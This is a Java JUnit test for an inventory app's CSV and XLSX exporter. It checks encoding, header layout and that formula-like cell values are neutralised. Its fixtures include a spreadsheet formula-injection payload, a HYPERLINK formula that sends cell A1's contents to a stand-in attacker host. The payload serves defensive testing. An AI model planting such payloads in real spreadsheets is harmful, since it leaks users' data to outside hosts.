package se.kretslopp.inventory.sheet;

import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFRow;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import se.kretslopp.inventory.api.ItemView;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static se.kretslopp.inventory.sheet.SheetFixtures.DOORS;
import static se.kretslopp.inventory.sheet.SheetFixtures.read;
import static se.kretslopp.inventory.sheet.SheetFixtures.requestOf;
import static se.kretslopp.inventory.sheet.SheetFixtures.view;

class ItemSheetWriterTest {

    private static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klicka här\")", "+1", "-2+3", "@SUM(A1:A9)", "=1+1");

    private final ItemSheetWriter writer = new ItemSheetWriter();

    private static List<ItemView> items() {
        return FORMULAS.stream().map(name -> view(name, DOORS, "dorrar.innerdorrar")).toList();
    }

    @Test
    void everyFieldSurvivesAnExportAndImport() {
        List<ItemView> items = List.of(view("Innerdörr åäö", DOORS, "dorrar.innerdorrar"));
        for (SheetFormat format : SheetFormat.values()) {
            ParsedSheet sheet = read(writer.write(items, format), "export." + format.extension());
            assertEquals(List.of(), sheet.problems(), format.name());
            assertEquals(List.of(requestOf(items.get(0))), sheet.requests(), format.name());
        }
    }

    @Test
    void csvIsUtf8WithBomSemicolonsAndCrlfAndFormulasAreNeutralised() {
        byte[] csv = writer.csv(items());
        assertArrayEquals(new byte[]{(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(csv, 3));
        String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
        assertTrue(text.startsWith("Kategori;Benämning;Material;Antal;Enhet;"), text);
        assertTrue(text.contains("\r\n"));
        assertTrue(text.contains(";\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Klicka här\"\")\";")
                || text.contains(";'=HYPERLINK("), text);
        for (String line : text.split("\r\n")) {
            for (String cell : line.split(";")) {
                String unquoted = cell.startsWith("\"") ? cell.substring(1) : cell;
                assertTrue(!FormulaGuard.startsLikeFormula(unquoted), "unguarded cell " + cell);
            }
        }
        assertTrue(text.contains(";2,5;m2;2040;825;40;22,125;"), "numbers with decimal comma: " + text);

        List<String> names = read(csv, "export.csv").requests().stream().map(r -> r.name()).toList();
        assertEquals(FORMULAS, names);
    }

    @Test
    void xlsxHasABoldFrozenCommentedHeaderNumbersAsNumbersAndNoFormulas() throws IOException {
        byte[] xlsx = writer.xlsx(items());
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            XSSFSheet sheet = workbook.getSheetAt(0);
            assertEquals(ItemSheetWriter.DATA_SHEET, sheet.getSheetName());
            XSSFRow header = sheet.getRow(0);
            assertEquals("Benämning", header.getCell(1).getStringCellValue());
            assertTrue(workbook.getFontAt(header.getCell(1).getCellStyle().getFontIndex()).getBold());
            assertNotNull(header.getCell(1).getCellComment());
            assertTrue(header.getCell(1).getCellComment().getString().getString().startsWith("Name (required)"));
            assertEquals(1, sheet.getPaneInformation().getHorizontalSplitPosition());
            assertTrue(sheet.getColumnWidth(1) > 20 * 256);
            for (int r = 1; r <= FORMULAS.size(); r++) {
                XSSFCell name = sheet.getRow(r).getCell(SheetColumn.NAME.ordinal());
                assertEquals(CellType.STRING, name.getCellType());
                assertEquals("'" + FORMULAS.get(r - 1), name.getStringCellValue());
                assertEquals(CellType.NUMERIC, sheet.getRow(r).getCell(SheetColumn.QUANTITY.ordinal()).getCellType());
            }
            assertEquals(ItemSheetWriter.HELP_SHEET, workbook.getSheetAt(1).getSheetName());
        }

        List<String> names = read(xlsx, "export.xlsx").requests().stream().map(r -> r.name()).toList();
        assertEquals(FORMULAS, names);
    }
}
